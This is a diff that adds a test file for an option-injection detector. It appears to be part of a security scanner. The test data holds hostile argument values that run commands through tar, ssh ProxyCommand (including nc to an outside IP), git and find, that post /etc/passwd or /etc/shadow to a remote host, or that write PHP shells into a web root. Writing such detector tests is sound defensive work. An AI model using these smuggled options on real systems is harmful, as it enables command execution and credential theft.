@@ -1,0 +1,30 @@
+import { describe, expect, test } from "bun:test";
+import { optionInjectionAnalyzer } from "../../../src/detect/analyzers/option-injection.ts";
+import { junk, strength, strongest } from "./helpers.ts";
+
+const s = (text: string) => strength(optionInjectionAnalyzer, text, { name: "file" });
+
+describe("option-injection analyzer: a value that is a tool's options", () => {
+  test("options that make a tool run a program", () => {
+    for (const v of ["--checkpoint=1 --checkpoint-action=exec=sh shell.sh", "-oProxyCommand=sh -c 'id'", "-o ProxyCommand=nc 198.51.100.7 4444", '-o "ProxyCommand sh -c id"', "--upload-pack=touch /tmp/pwned", "--to-command=id", "-c core.sshCommand=id", "-exec sh -c id ;", "--use-compress-program=sh x.sh", " -TT=id"]) {
+      expect([v, strongest(optionInjectionAnalyzer, v)?.rule]).toEqual([v, "options.runs-command"]);
+      expect(s(v)).toBe(0.9);
+    }
+  });
+
+  test("options that send a local file away or write one into a web root or system directory", () => {
+    for (const v of ["--post-file=/etc/passwd http://198.51.100.7/", "-F 'x=@/etc/passwd' http://198.51.100.7/", "-X/var/www/html/shell.php", "-O /var/www/html/x.php http://198.51.100.7/x", "--upload-file /etc/shadow http://x/"]) {
+      expect([v, s(v)]).toEqual([v, 0.85]);
+    }
+  });
+
+  test("sort keys, negative numbers, flags and options quoted in prose are nothing", () => {
+    for (const v of ["-1", "--", "-sort=price", "-created_at", "-o json", "--help", "-- not sure", "-exec", "-T /", "run tar with --checkpoint-action=exec=x to see", "-v -o out.txt"]) expect([v, s(v)]).toEqual([v, 0]);
+    expect(optionInjectionAnalyzer.analyze({ text: "/a/--upload-pack=x", location: "path", path: "path", name: "", kind: "path" })).toEqual([]);
+  });
+
+  test("binary junk and a long value: a correct answer, no throw", () => {
+    expect(s(junk(100_000))).toBe(0);
+    expect(s(`-${"a ".repeat(500_000)}`)).toBe(0);
+  });
+});
